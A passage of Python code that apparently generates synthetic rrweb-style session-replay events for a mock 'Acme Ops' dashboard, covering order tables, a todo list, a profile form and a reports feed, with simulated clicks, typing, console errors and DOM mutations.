        page.toast_host = E("div", {"class": "toasts", "aria-live": "polite"}, [])
        page.title_text = T(f"{page.title} · Acme Ops")
        page.theme_style = E("style", {}, [T(_THEME_CSS, style=True)])
        head = E("head", {}, [
            T("\n    "), _el("meta", charset="utf-8"), T("\n    "),
            _el("meta", name="viewport", content="width=device-width, initial-scale=1"), T("\n    "),
            E("title", {}, [page.title_text]), T("\n    "),
            E("link", {"rel": "stylesheet", "href": f"{CDN}/static/css/app.5d21c9.css", "_cssText": _app_css()}),
            T("\n    "), page.theme_style, T("\n  "),
        ])
        page.body = E("body", {"class": "theme-light"}, [
            T("\n    "), E("div", {"id": "root"}, [header, page.main, page.toast_host]), T("\n    "),
            E("script", {"src": _VENDOR_JS, "defer": ""}, []), T("\n    "),
            E("script", {"src": _JS, "defer": ""}, []), T("\n  "),
        ])
        return E("html", {"lang": "en"}, [head, T("\n  "), page.body])

    # --- the driver -----------------------------------------------------------------------------
    def run(self) -> Iterator[tuple[int, Raw]]:
        rng = self.rng
        pages = (_Dashboard, _Tasks, _Profile, _Reports)
        visits = {p: 0 for p in pages}
        visits[_Dashboard] = 1
        yield from self.load(_Dashboard, True)
        while True:
            if self.k >= self.next_nav:
                self.next_nav = self.k + int(self.nav_every * rng.uniform(0.6, 1.4))
                # every page gets its turn (the workload should cover them all)
                others = [p for p in pages if not isinstance(self.page, p)]
                least = min(visits[p] for p in others)
                kind = rng.choice([p for p in others if visits[p] == least])
                visits[kind] += 1
                yield from self.load(kind, rng.random() < 0.4)
                continue
            page = self.page
            r = rng.random()
            if r < 0.30:
                yield from self.wander()
            elif r < 0.34:
                yield from self.scroll(1, rng.randint(0, 1400), rng.randint(0, 600))
            elif r < 0.375:
                yield self.background_console()
            elif r < 0.40:
                yield self.resource(f"{API}/v2/notifications?since={self.now - 30_000}", "xhr",
                                    size=rng.randint(40, 900))
            elif r < 0.405:
                yield from self.js_error()
            elif r < 0.41:
                yield from self.frustration()
            elif r < 0.414:
                yield from self.toast()
            elif r < 0.416:
                yield from self.theme()
            elif r < 0.4165:
                yield from self.resize()
            elif r < 0.417:
                yield _CUSTOM, {"tag": "feature-flags", "payload": {
                    "new_checkout": rng.random() < 0.5, "orders_v2": True,
                    "experiment": rng.choice(("control", "variant-a", "variant-b"))}}
            else:
                yield from page.act()

    def wander(self) -> Iterator:
        node = self.rng.choice(self.page.hover)
        return self.goto(node)

    def background_console(self) -> tuple[int, Raw]:
        rng = self.rng
        r = rng.random()
        if r < 0.55:
            return self.console("log", f"[live] {rng.randint(1, 40)} updates", {"seq": self.k, "latency_ms": rng.randint(8, 400)})
        if r < 0.8:
            return self.console("info", f"[{rng.choice(('cache', 'auth', 'ws', 'metrics'))}] "
                                + " ".join(rng.choice(_WORDS) for _ in range(rng.randint(2, 6))))
        if r < 0.95:
            return self.console("warn", "Slow request", {"url": f"{API}/v2/orders", "ms": rng.randint(1200, 6000)})
        return self.console("debug", {"state": {"page": self.page.path, "focused": bool(self.focused),
                                                "toasts": len(self.toasts)}})

    def js_error(self) -> Iterator:
        etype, msg = self.rng.choice(_ERRORS)
        yield self.console("error", f"Uncaught {etype}: {msg}", depth=4)
        yield self.error(etype, msg, "source")

    def frustration(self) -> Iterator:
        rng = self.rng
        page = self.page
        kind = rng.choice(("rage_click", "dead_click", "error_click"))
        if kind == "rage_click":
            btn = page.help_btn
            yield from self.click(btn)
            for _ in range(rng.randint(3, 6)):
                yield _INC, {"source": _MI, "type": _MOUSEDOWN, "id": btn.id, "x": self.x, "y": self.y, "pointerType": 0}
                yield _INC, {"source": _MI, "type": _MOUSEUP, "id": btn.id, "x": self.x, "y": self.y, "pointerType": 0}
                yield _INC, {"source": _MI, "type": _CLICK, "id": btn.id, "x": self.x, "y": self.y, "pointerType": 0}
            yield self.action("Help", "rage_click")
        elif kind == "dead_click":
            node = rng.choice(page.hover)
            yield from self.click(node)
            yield self.action(page.name_of(node), "dead_click")
        else:
            node = page.help_btn
            yield from self.click(node)
            yield self.resource(f"{API}/v2/help/articles?ctx={page.path}", "fetch", status=500)
            yield self.error("Error", "Request failed with status code 500", "network")
            yield self.action("Help", "error_click")

    def toast(self) -> Iterator:
        rng = self.rng
        page = self.page
        if len(self.toasts) >= 2 or (self.toasts and rng.random() < 0.6):
            t = self.toasts.pop(0)
            page.forget(t)
            yield _mutation(removes=[{"parentId": page.toast_host.id, "id": t.id}])
            return
        yield from self.click(page.bell)
        msg = rng.choice(("Order #{} was refunded", "New comment on task #{}", "Export #{} is ready",
                          "Shipment #{} delayed")).format(rng.randint(10000, 99999))
        t = E("div", {"class": "toast", "role": "status"}, [T(msg), _el("button", "close", "×", aria__label="Dismiss")])
        yield _mutation(adds=self.ids.adds(page.toast_host, t, None))
        page.toast_host.kids.append(t)
        page.remember(t)
        self.toasts.append(t)
        yield self.action("Notifications")

    def theme(self) -> Iterator:
        """Dark mode through CSSOM: insertRule / deleteRule on the theme <style>."""
        page = self.page
        sid = page.theme_style.id
        yield from self.click(page.help_btn)  # the theme switch sits in the help menu
        if self.dark_rules < len(_DARK_RULES):
            yield _INC, {"source": _SHEET, "id": sid, "adds": [
                {"rule": _DARK_RULES[self.dark_rules], "index": _THEME_RULES + self.dark_rules}]}
            self.dark_rules += 1
            if self.dark_rules == 1:
                yield _mutation(attributes=[{"id": page.body.id, "attributes": {"class": "theme-light dark"}}])
        else:
            while self.dark_rules:
                self.dark_rules -= 1
                yield _INC, {"source": _SHEET, "id": sid, "removes": [{"index": _THEME_RULES + self.dark_rules}]}
            yield _mutation(attributes=[{"id": page.body.id, "attributes": {"class": "theme-light"}}])

    def resize(self) -> Iterator:
        self.width, self.height = self.rng.choice(((1440, 900), (1280, 800), (1920, 1080), (1024, 768), (1600, 900)))
        yield _INC, {"source": _RESIZE, "width": self.width, "height": self.height}


class _Page:
    path = "/"
    title = ""

    def __init__(self, app: _App):
        self.app = app
        self.rng = app.rng
        self.hover: list[E] = []
        self.alive: set[int] = set()
        self.names: dict[int, str] = {}
        self.content = self.build()

    def build(self) -> E:
        raise NotImplementedError

    def act(self) -> Iterator:
        raise NotImplementedError

    def api_calls(self) -> list[str]:
        return []

    def adopt_chrome(self, old: "_Page") -> None:
        for name in ("nav_links", "help_btn", "bell", "main", "toast_host", "title_text",
                     "theme_style", "body", "root", "chrome_nodes"):
            setattr(self, name, getattr(old, name))
        for a in self.nav_links:
            a.attrs["class"] = "active" if a.attrs["href"] == self.path else None
            if a.attrs["class"] is None:
                del a.attrs["class"]

    def collect(self) -> None:
        """Record which nodes exist now (targets for later events)."""
        if not hasattr(self, "chrome_nodes"):
            self.chrome_nodes = set()
            stack = [self.root]
            while stack:
                n = stack.pop()
                if n is self.content:
                    continue
                self.chrome_nodes.add(n.id)
                if type(n) is E:
                    stack.extend(n.kids)
        self.alive = set(self.chrome_nodes)
        self.remember(self.content)
        for t in self.app.toasts:
            self.remember(t)
        self.hover += self.nav_links + [self.help_btn, self.bell]

    def remember(self, node: E | T) -> None:
        stack = [node]
        alive = self.alive
        while stack:
            n = stack.pop()
            alive.add(n.id)
            if type(n) is E:
                stack.extend(n.kids)

    def forget(self, node: E | T) -> None:
        stack = [node]
        alive = self.alive
        while stack:
            n = stack.pop()
            alive.discard(n.id)
            if type(n) is E:
                stack.extend(n.kids)

    def name_of(self, node: E) -> str:
        if node.kids and type(node.kids[0]) is T:
            return node.kids[0].text[:40]
        return node.attrs.get("aria-label") or node.tag


def _serialize_document(ids: _Ids, page: _Page) -> Raw:
    html = page.app.chrome(page)
    doc = E("#doc", {}, [])
    page.root = doc
    doc.id = ids.next
    ids.next += 1
    doctype_id = ids.next
    ids.next += 1
    html_sn = ids.serialize(html)
    doc.kids = [html]
    return {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "",
                                       "id": doctype_id}, html_sn],
            "compatMode": "CSS1Compat", "id": doc.id}


# --- dashboard: KPI cards and a live orders table ---------------------------------------------
class _Dashboard(_Page):
    path = "/dashboard"
    title = "Dashboard"
    ROWS = 25

    def build(self) -> E:
        rng = self.rng
        self.kpis = []
        cards = []
        for i, label in enumerate(("Revenue today", "Orders", "Avg. basket", "Refund rate")):
            value = T(self._kpi_value(i))
            delta = E("span", {"class": "kpi-delta up"}, [T(f"+{rng.uniform(0, 9):.1f}%")])
            bar = E("div", {"class": "bar", "style": f"width: {rng.randint(10, 95)}%;"}, [])
            card = E("div", {"class": "kpi", "data-kpi": label.lower().replace(" ", "-").replace(".", "")}, [
                _el("span", "kpi-label", label), E("span", {"class": "kpi-value"}, [value]), delta,
                E("div", {"class": "progress"}, [bar])], box=(24 + 320 * i, 120, 300, 100))
            self.kpis.append((value, delta, bar))
            cards.append(card)
        self.hover.extend(cards)
        self.updated = T(f"Updated {_clock(self.app.now)}")
        self.search = E("input", {"type": "search", "placeholder": "Filter orders…", "aria-label": "Filter orders"},
                        [], box=(40, 260, 600, 32))
        self.export = _el("button", None, "Export CSV", box=(660, 260, 100, 32), type="button")
        cols = ("Order", "Customer", "Product", "Qty", "Amount", "Status", "Placed")
        self.heads = [_el("th", None, c, box=(40 + 160 * i, 310, 150, 30), scope="col") for i, c in enumerate(cols)]
        self.tbody = E("tbody", {}, [])
        self.rows: list[tuple[E, list]] = []
        self.seq = rng.randint(40000, 60000)
        for _ in range(self.ROWS):
            self._append_row(self._row())
        self.prev = _el("button", None, "Previous", box=(980, 1260, 90, 32), type="button")
        self.next = _el("button", None, "Next", box=(1080, 1260, 70, 32), type="button")
        self.page_no = T("Page 1 of 48")
        self.hover += [self.search, self.export, self.prev, self.next] + self.heads
        table = E("table", {"class": "orders"}, [E("thead", {}, [E("tr", {}, self.heads)]), self.tbody])
        return E("section", {"class": "dashboard"}, [
            _el("h1", None, "Dashboard"),
            E("div", {"class": "kpis"}, cards),
            E("div", {"class": "card"}, [
                E("div", {"class": "toolbar"}, [self.search, self.export, E("span", {"class": "updated"}, [self.updated])]),
                table,
                E("div", {"class": "pager"}, [self.prev, E("span", {}, [self.page_no]), self.next]),
            ]),
        ])

    def _kpi_value(self, i: int) -> str:
        rng = self.rng
        return (_money(rng.uniform(20_000, 90_000)), f"{rng.randint(300, 2400):,}",
                _money(rng.uniform(40, 160)), f"{rng.uniform(0.5, 4.0):.2f}%")[i]

    def _row(self) -> tuple[E, list]:
        rng = self.rng
        self.seq += 1
        status = rng.choice(_STATUSES)
        qty = rng.randint(1, 12)
        cells = [f"#{self.seq}", f"{rng.choice(_FIRST)} {rng.choice(_LAST)}", rng.choice(_PRODUCTS),
                 str(qty), _money(qty * rng.uniform(9, 899)), status,
                 _clock(self.app.now - rng.randint(0, 3_600_000))]
        texts = [T(c) for c in cells]
        tds = []
        for i, t in enumerate(texts):
            if i == 5:
                badge = E("span", {"class": f"badge badge-{status.lower()}"}, [t])
                tds.append(E("td", {}, [badge]))
            else:
                tds.append(E("td", {"class": "num"} if i in (3, 4) else {}, [t]))
        tr = E("tr", {"data-order": str(self.seq)}, tds)
        return tr, texts

    def _append_row(self, row: tuple[E, list]) -> None:
        self.rows.append(row)
        self.tbody.kids.append(row[0])

    def _place_rows(self) -> None:
        for i, (tr, _) in enumerate(self.rows):
            tr.box = (40, 345 + 36 * i, 1100, 34)

    def collect(self) -> None:
        super().collect()
        self._place_rows()

    def api_calls(self) -> list[str]:
        return [f"{API}/v2/kpis?range=today", f"{API}/v2/orders?page=1&sort=-placed&limit={self.ROWS}"]

    def act(self) -> Iterator:
        rng = self.rng
        app = self.app
        r = rng.random()
        if r < 0.52:
            yield self.live_tick()
        elif r < 0.58:
            yield self.new_order()
        elif r < 0.66:
            yield self.kpi_tick()
        elif r < 0.947:
            tr, _ = rng.choice(self.rows)
            yield from app.goto(tr)
        elif r < 0.95:
            yield from self.sort()
        elif r < 0.953:
            yield from self.paginate()
        elif r < 0.955:
            yield from self.filter()
        elif r < 0.97:
            yield from app.click(self.export)
            yield app.resource(f"{API}/v2/orders/export?format=csv", "fetch", size=rng.randint(20_000, 400_000))
            yield app.action("Export CSV")
        else:
            tr, texts = rng.choice(self.rows)
            yield from app.click(tr)
            yield app.action(f"Order {texts[0].text}")
            yield app.resource(f"{API}/v2/orders/{texts[0].text[1:]}", "fetch")

    def live_tick(self) -> tuple[int, Raw]:
        rng = self.rng
        tr, texts = rng.choice(self.rows)
        if rng.random() < 0.5:
            status = rng.choice(_STATUSES)
            badge = tr.kids[5].kids[0]
            badge.attrs["class"] = f"badge badge-{status.lower()}"
            texts[5].text = status
            return _mutation(texts=[{"id": texts[5].id, "value": status}],
                             attributes=[{"id": badge.id, "attributes": {"class": badge.attrs["class"]}}])
        qty = rng.randint(1, 12)
        texts[3].text, texts[4].text = str(qty), _money(qty * rng.uniform(9, 899))
        self.updated.text = f"Updated {_clock(self.app.now)}"
        return _mutation(texts=[{"id": texts[3].id, "value": texts[3].text},
                                {"id": texts[4].id, "value": texts[4].text},
                                {"id": self.updated.id, "value": self.updated.text}])

    def new_order(self) -> tuple[int, Raw]:
        """A new order slides in at the top; the oldest row leaves the bottom."""
        row = self._row()
        first = self.rows[0][0]
        row[0].attrs["class"] = "row-new"
        adds = self.app.ids.adds(self.tbody, row[0], first.id)
        removes = []
        if len(self.rows) >= self.ROWS:
            old_tr, _ = self.rows.pop()
            self.tbody.kids.remove(old_tr)
            self.forget(old_tr)
            removes.append({"parentId": self.tbody.id, "id": old_tr.id})
        self.rows.insert(0, row)
        self.tbody.kids.insert(0, row[0])
        self.remember(row[0])
        self._place_rows()
        # the flash class from the previous arrival is cleared in the same frame
        attrs = [{"id": first.id, "attributes": {"class": None}}] if first.attrs.pop("class", None) else []
        return _mutation(adds=adds, removes=removes, attributes=attrs)

    def kpi_tick(self) -> tuple[int, Raw]:
        rng = self.rng
        i = rng.randrange(4)
        value, delta, bar = self.kpis[i]
        value.text = self._kpi_value(i)
        up = rng.random() < 0.6
        delta.kids[0].text = f"{'+' if up else '-'}{rng.uniform(0, 9):.1f}%"
        delta.attrs["class"] = f"kpi-delta {'up' if up else 'down'}"
        width = f"{rng.randint(5, 99)}%"
        bar.attrs["style"] = f"width: {width};"
        style: Any = {"width": width} if rng.random() < 0.5 else bar.attrs["style"]  # styleDiff or plain
        return _mutation(texts=[{"id": value.id, "value": value.text}, {"id": delta.kids[0].id, "value": delta.kids[0].text}],
                         attributes=[{"id": delta.id, "attributes": {"class": delta.attrs["class"]}},
                                     {"id": bar.id, "attributes": {"style": style}}])

    def rerender(self) -> tuple[int, Raw]:
        """Replace every row (sort, page change, filter): one big mutation."""
        removes = [{"parentId": self.tbody.id, "id": tr.id} for tr, _ in self.rows]
        for tr, _ in self.rows:
            self.forget(tr)
        self.rows = []
        self.tbody.kids = []
        count = self.ROWS if self.rng.random() < 0.8 else self.rng.randint(3, self.ROWS)  # a filter narrows
        for _ in range(count):
            self._append_row(self._row())
        ids = self.app.ids
        for tr, _ in self.rows:  # ids in document order ...
            ids.assign(tr)
        adds = []
        for i in range(len(self.rows) - 1, -1, -1):  # ... adds last row first, as rrweb orders siblings
            nxt = self.rows[i + 1][0].id if i + 1 < len(self.rows) else None
            adds.extend(ids.adds(self.tbody, self.rows[i][0], nxt, assign=False))
        for tr, _ in self.rows:
            self.remember(tr)
        self._place_rows()
        return _mutation(adds=adds, removes=removes)

    def sort(self) -> Iterator:
        app = self.app
        th = self.rng.choice(self.heads)
        yield from app.click(th)
        attrs = [{"id": h.id, "attributes": {"class": "sorted" if h is th else None}} for h in self.heads
                 if (h is th) != (h.attrs.get("class") == "sorted")]
        for h in self.heads:
            if h is th:
                h.attrs["class"] = "sorted"
            else:
                h.attrs.pop("class", None)
        if attrs:
            yield _mutation(attributes=attrs)
        yield app.resource(f"{API}/v2/orders?page=1&sort={th.kids[0].text.lower()}&limit={self.ROWS}", "fetch")
        yield self.rerender()
        yield app.action(th.kids[0].text)

    def paginate(self) -> Iterator:
        app = self.app
        btn = self.rng.choice((self.prev, self.next))
        yield from app.click(btn)
        n = self.rng.randint(1, 48)
        yield app.resource(f"{API}/v2/orders?page={n}&limit={self.ROWS}", "fetch")
        yield self.rerender()
        self.page_no.text = f"Page {n} of 48"
        yield _mutation(texts=[{"id": self.page_no.id, "value": self.page_no.text}])
        yield app.action(btn.kids[0].text)

    def filter(self) -> Iterator:
        app = self.app
        rng = self.rng
        yield from app.click(self.search, focusable=True)
        word = rng.choice(_LAST + _PRODUCTS)[: rng.randint(3, 8)].lower()
        for i, ev in enumerate(app.type_text(self.search, word)):
            yield ev
        yield app.resource(f"{API}/v2/orders?q={word}&limit={self.ROWS}", "fetch")
        yield self.rerender()


# --- tasks: a todo list ------------------------------------------------------------------------
class _Tasks(_Page):
    path = "/tasks"
    title = "Tasks"

    def build(self) -> E:
        rng = self.rng
        self.new_todo = E("input", {"class": "new-todo", "placeholder": "What needs to be done?",
                                    "autofocus": ""}, [], box=(420, 150, 600, 56))
        self.list = E("ul", {"class": "todo-list"}, [])
        self.items: list[tuple[E, E, E, T]] = []  # li, checkbox, destroy button, label text
        for _ in range(rng.randint(6, 14)):
            self._item(rng.choice(_TASKS), rng.random() < 0.3)
        self.count = T(self._count_text())
        self.filters = [_el("a", "selected" if i == 0 else None, f, href=f"#/{f.lower()}",
                            box=(600 + 80 * i, 780, 70, 24))
                        for i, f in enumerate(("All", "Active", "Completed"))]
        self.clear = _el("button", "clear-completed", "Clear completed", box=(900, 780, 130, 24), type="button")
        self.hover += [self.new_todo, self.clear] + self.filters
        self._place()
        return E("section", {"class": "todoapp"}, [
            E("header", {"class": "header"}, [_el("h1", None, "Tasks"), self.new_todo]),
            E("section", {"class": "main"}, [self.list]),
            E("footer", {"class": "footer"}, [E("span", {"class": "todo-count"}, [self.count]),
                                              E("ul", {"class": "filters"}, [E("li", {}, [f]) for f in self.filters]),
                                              self.clear]),
        ])

    def _item(self, text: str, done: bool) -> tuple:
        box = E("input", {"class": "toggle", "type": "checkbox"}, [])
        if done:
            box.attrs["checked"] = ""
        label = T(text)
        destroy = _el("button", "destroy", "×", aria__label="Delete")
        li = E("li", {"class": "completed"} if done else {}, [E("div", {"class": "view"}, [box, E("label", {}, [label]), destroy])])
        item = (li, box, destroy, label)
        self.items.append(item)
        self.list.kids.append(li)
        return item

    def _done(self, li: E) -> bool:
        return li.attrs.get("class") == "completed"

    def _count_text(self) -> str:
        left = sum(1 for it in self.items if not self._done(it[0]))
        return f"{left} item{'s' if left != 1 else ''} left"

    def _place(self) -> None:
        for i, (li, box, destroy, _) in enumerate(self.items):
            li.box = (420, 210 + 52 * i, 600, 50)
            box.box = (430, 222 + 52 * i, 24, 24)
            destroy.box = (980, 222 + 52 * i, 24, 24)
        self.hover = [h for h in self.hover if h.tag not in ("li",)] + [it[0] for it in self.items]

    def api_calls(self) -> list[str]:
        return [f"{API}/v2/tasks?assignee=me"]

    def _count_mutation(self) -> tuple[int, Raw]:
        self.count.text = self._count_text()
        return _mutation(texts=[{"id": self.count.id, "value": self.count.text}])

    def act(self) -> Iterator:
        rng = self.rng
        app = self.app
        r = rng.random()
        if r < 0.55 and len(self.items) > 2:  # reading the list
            yield from app.goto(rng.choice(self.hover))
            return
        r = rng.random()
        if r < 0.08 or len(self.items) < 3:
            yield from app.click(self.new_todo, focusable=True)
            text = rng.choice(_TASKS) + rng.choice(("", "", " today", " before Friday", f" (#{rng.randint(100, 999)})"))
            yield from app.type_text(self.new_todo, text)
            li = self._item(text, False)[0]
            adds = app.ids.adds(self.list, li, None)
            self.remember(li)
            yield _mutation(adds=adds)
            yield app.input(self.new_todo, "")
            yield self._count_mutation()
            yield app.resource(f"{API}/v2/tasks", "fetch", method="POST", status=201)
            self._place()
        elif r < 0.65:
            li, box, _, label = rng.choice(self.items)
            yield from app.click(box)
            done = not self._done(li)
            yield app.input(box, "on", done)
            if done:
                li.attrs["class"] = "completed"
            else:
                li.attrs.pop("class", None)
            yield _mutation(attributes=[{"id": li.id, "attributes": {"class": "completed" if done else None}}])
            yield self._count_mutation()
            yield app.action(label.text[:40])
        elif r < 0.85:
            item = rng.choice(self.items)
            li = item[0]
            yield from app.goto(li)
            yield from app.click(item[2])
            self.items.remove(item)
            self.list.kids.remove(li)
            self.forget(li)
            yield _mutation(removes=[{"parentId": self.list.id, "id": li.id}])
            yield self._count_mutation()
            yield app.resource(f"{API}/v2/tasks/{rng.randint(1000, 9999)}", "fetch", method="DELETE", status=204, size=0)
            self._place()
        elif r < 0.93:
            f = rng.choice(self.filters)
            yield from app.click(f)
            attrs = []
            for g in self.filters:
                want = "selected" if g is f else None
                if g.attrs.get("class") != want:
                    attrs.append({"id": g.id, "attributes": {"class": want}})
                    if want:
                        g.attrs["class"] = want
                    else:
                        g.attrs.pop("class", None)
            if attrs:
                yield _mutation(attributes=attrs)
        else:
            yield from app.click(self.clear)
            gone = [it for it in self.items if self._done(it[0])]
            if gone:
                for it in gone:
                    self.items.remove(it)
                    self.list.kids.remove(it[0])
                    self.forget(it[0])
                yield _mutation(removes=[{"parentId": self.list.id, "id": it[0].id} for it in gone])
                self._place()
            else:
                yield app.action("Clear completed", "dead_click")


# --- profile: a form filled in keystroke by keystroke --------------------------------------------
class _Profile(_Page):
    path = "/settings/profile"
    title = "Profile settings"

    def build(self) -> E:
        rng = self.rng
        first, last = rng.choice(_FIRST), rng.choice(_LAST)
        asc = first.lower().encode("ascii", "ignore").decode() or "user"
        self.values = {
            "name": f"{first} {last}",
            "email": f"{asc}.{rng.randint(1, 99)}@example.com",
            "phone": f"+49 30 {rng.randint(1000000, 9999999)}",
            "company": rng.choice(_COMPANIES),
            "bio": " ".join(rng.choice(_WORDS) for _ in range(rng.randint(8, 20))).capitalize() + ".",
            "password": "x" * rng.randint(10, 16),
        }
        rows: list = []
        self.fields: dict[str, E] = {}
        self.field_row: dict[str, E] = {}
        y = 140
        for key, label, typ in (("name", "Full name", "text"), ("email", "Email", "email"),
                                ("phone", "Phone", "tel"), ("company", "Company", "text")):
            inp = E("input", {"type": typ, "name": key, "id": f"f-{key}", "autocomplete": key}, [], box=(420, y, 420, 34))
            self.fields[key] = inp
            rows += [_el("label", None, label, for_=f"f-{key}"), inp]
            y += 48
        self.country = E("select", {"name": "country", "id": "f-country"},
                         [E("option", {"value": c}, [T(n)]) for c, n in _COUNTRIES], box=(420, y, 300, 34))
        rows += [_el("label", None, "Country", for_="f-country"), self.country]
        y += 48
        self.bio = E("textarea", {"name": "bio", "id": "f-bio", "rows": "4"}, [], box=(420, y, 420, 90))
        self.fields["bio"] = self.bio
        rows += [_el("label", None, "About you", for_="f-bio"), self.bio]
        y += 104
        self.plans = [E("input", {"type": "radio", "name": "plan", "value": p}, [], box=(420 + 120 * i, y, 18, 18))
                      for i, p in enumerate(("free", "team", "enterprise"))]
        self.plans[0].attrs["checked"] = ""
        rows += [_el("label", None, "Plan"), E("div", {"class": "plans"}, [
            E("label", {}, [r, T(" " + r.attrs["value"].capitalize())]) for r in self.plans])]
        y += 40
        self.newsletter = E("input", {"type": "checkbox", "name": "newsletter"}, [], box=(420, y, 18, 18))
        rows += [_el("label", None, "Newsletter"), E("label", {}, [self.newsletter, T(" Send me product news")])]
        y += 40
        self.password = E("input", {"type": "password", "name": "password", "autocomplete": "new-password"}, [], box=(420, y, 300, 34))
        self.fields["password"] = self.password
        rows += [_el("label", None, "New password"), self.password]
        y += 56
        self.save = _el("button", "primary", "Save changes", box=(420, y, 140, 36), type="submit")
        rows += [E("span", {}, []), self.save]
        self.form = E("form", {"class": "profile", "novalidate": "", "action": "/settings/profile", "method": "post"}, rows)
        self.errors: dict[str, E] = {}
        self.hover += list(self.fields.values()) + [self.country, self.save, self.newsletter] + self.plans
        self.plan = 0
        self.checked = False
        return E("section", {"class": "settings"}, [_el("h1", None, "Profile"), E("div", {"class": "card"}, [self.form])])

    def api_calls(self) -> list[str]:
        return [f"{API}/v2/me", f"{API}/v2/countries"]

    def act(self) -> Iterator:
        rng = self.rng
        app = self.app
        r = rng.random()
        if r < 0.55:  # reading the form, hesitating between fields
            yield from app.goto(rng.choice(self.hover))
        elif r < 0.67:
            key = rng.choice(list(self.fields))
            inp = self.fields[key]
            yield from app.click(inp, focusable=True)
            masked = key == "password"
            if rng.random() < 0.3:  # select all and retype
                yield app.input(inp, "")
            yield from app.type_text(inp, self.values[key][: rng.randint(3, len(self.values[key]))], masked=masked)
        elif r < 0.74:
            yield from app.click(self.country, focusable=True)
            yield app.input(self.country, rng.choice(_COUNTRIES)[0])
        elif r < 0.81:
            i = rng.randrange(3)
            yield from app.click(self.plans[i])
            yield app.input(self.plans[i], self.plans[i].attrs["value"], True)
            if i != self.plan:  # rrweb reports the radio that went off too
                yield app.input(self.plans[self.plan], self.plans[self.plan].attrs["value"], False)
            self.plan = i
        elif r < 0.87:
            yield from app.click(self.newsletter)
            self.checked = not self.checked
            yield app.input(self.newsletter, "on", self.checked)
        else:
            yield from self.submit()

    def submit(self) -> Iterator:
        rng = self.rng
        app = self.app
        yield from app.click(self.save)
        if self.errors and rng.random() < 0.7:  # the errors go away
            for key, err in list(self.errors.items()):
                inp = self.fields[key]
                yield _mutation(removes=[{"parentId": self.form.id, "id": err.id}],
                                attributes=[{"id": inp.id, "attributes": {"class": None, "aria-invalid": None}}])
                self.form.kids.remove(err)
                self.forget(err)
                inp.attrs.pop("class", None)
                inp.attrs.pop("aria-invalid", None)
            self.errors.clear()
        roll = rng.random()
        if roll < 0.4:
            key = rng.choice([k for k in ("email", "phone", "name") if k not in self.errors] or ["name"])
            if key in self.errors:
                return
            inp = self.fields[key]
            msg = {"email": "Please enter a valid email address", "phone": "Please enter a valid phone number",
                   "name": "Name is required"}[key]
            err = E("div", {"class": "field-error", "role": "alert"}, [T(msg)])
            pos = self.form.kids.index(inp) + 1
            nxt = self.form.kids[pos]
            adds = app.ids.adds(self.form, err, nxt.id)
            self.form.kids.insert(pos, err)
            self.remember(err)
            self.errors[key] = err
            inp.attrs["class"] = "invalid"
            inp.attrs["aria-invalid"] = "true"
            yield _mutation(adds=adds, attributes=[{"id": inp.id, "attributes": {"class": "invalid", "aria-invalid": "true"}}])
            yield app.console("warn", "[form] validation failed", {"field": key})
            yield app.action("Save changes", "error_click" if rng.random() < 0.2 else None)
        elif roll < 0.55:
            yield app.resource(f"{API}/v2/me", "fetch", method="PUT", status=500)
            yield app.console("error", "PUT /v2/me failed", {"status": 500}, depth=4)
            yield app.error("Error", "Request failed with status code 500", "network")
            yield app.action("Save changes", "error_click")
        else:
            yield self.save_attr("disabled", "")
            yield app.resource(f"{API}/v2/me", "fetch", method="PUT", status=200)
            yield self.save_attr("disabled", None)
            yield app.action("Save changes")

    def save_attr(self, name: str, value: str | None) -> tuple[int, Raw]:
        if value is None:
            self.save.attrs.pop(name, None)
        else:
            self.save.attrs[name] = value
        return _mutation(attributes=[{"id": self.save.id, "attributes": {name: value}}])


# --- reports: a scrolling feed with a video and lazy-loaded cards --------------------------------
class _Reports(_Page):
    path = "/reports"
    title = "Reports"

    def build(self) -> E:
        self.video = E("video", {"class": "briefing", "src": f"{CDN}/media/weekly-briefing.mp4",
                                 "controls": "", "preload": "metadata", "poster": f"{CDN}/media/briefing.jpg"},
                       [], box=(300, 120, 640, 360))
        self.feed = E("div", {"class": "feed", "role": "feed"}, [], box=(300, 500, 800, 640))
        self.cards: list[tuple[E, T, E]] = []
        self.page_n = 1
        for _ in range(12):
            self._card()
        self.more = _el("button", None, "Load more", box=(640, 1100, 120, 32), type="button")
        self.hover += [self.video, self.more, self.feed]
        self.scroll_y = 0
        self.video_t = 0.0
        self.playing = False
        return E("section", {"class": "reports"}, [_el("h1", None, "Reports"), self.video, self.feed, self.more])

    def _card(self) -> E:
        rng = self.rng
        n = len(self.cards) + 1
        para = T(" ".join(rng.choice(_WORDS) for _ in range(rng.randint(18, 40))).capitalize() + ".")
        card = E("article", {"class": "report", "data-id": str(1000 + n)}, [
            E("img", {"src": f"{CDN}/img/reports/{rng.randint(1, 400)}.webp", "alt": "", "loading": "lazy",
                      "width": "160", "height": "90"}, []),
            E("div", {}, [_el("h3", None, f"Weekly {rng.choice(_WORDS)} report #{n}"), E("p", {}, [para]),
                          _el("span", "meta", f"{rng.choice(_FIRST)} {rng.choice(_LAST)} · {rng.randint(2, 12)} min read")]),
        ], box=(310, 510 + 130 * (n % 5), 780, 120))
        self.cards.append((card, para, card.kids[1]))
        self.feed.kids.append(card)
        return card

    def api_calls(self) -> list[str]:
        return [f"{API}/v2/reports?page=1"]

    def act(self) -> Iterator:
        rng = self.rng
        app = self.app
        r = rng.random()
        if r < 0.40:
            y = max(0, min(130 * len(self.cards) - 600, self.scroll_y + rng.randint(-400, 900)))
            yield from app.goto(self.feed)
            yield from app.scroll(self.feed.id, y, self.scroll_y)
            self.scroll_y = y
        elif r < 0.55:
            yield from app.click(self.more)
            self.page_n += 1
            yield app.resource(f"{API}/v2/reports?page={self.page_n}", "fetch")
            adds = []
            new = [self._card() for _ in range(rng.randint(5, 10))]
            for c in new:
                app.ids.assign(c)
            for i in range(len(new) - 1, -1, -1):  # last first, as rrweb orders sibling adds
                adds.extend(app.ids.adds(self.feed, new[i], new[i + 1].id if i + 1 < len(new) else None, assign=False))
            for c in new:
                self.remember(c)
            yield _mutation(adds=adds)
            for c in new[: rng.randint(1, 4)]:
                yield app.resource(c.kids[0].attrs["src"], "image", size=rng.randint(8_000, 90_000))
            if len(self.cards) > 60:  # the feed virtualises: old cards leave the DOM
                old = self.cards[:10]
                del self.cards[:10]
                for card, _, _ in old:
                    self.feed.kids.remove(card)
                    self.forget(card)
                yield _mutation(removes=[{"parentId": self.feed.id, "id": c.id} for c, _, _ in old])
        elif r < 0.70:
            yield from app.click(self.video)
            kinds = [0 if not self.playing else 1]
            if rng.random() < 0.3:
                kinds.append(2)
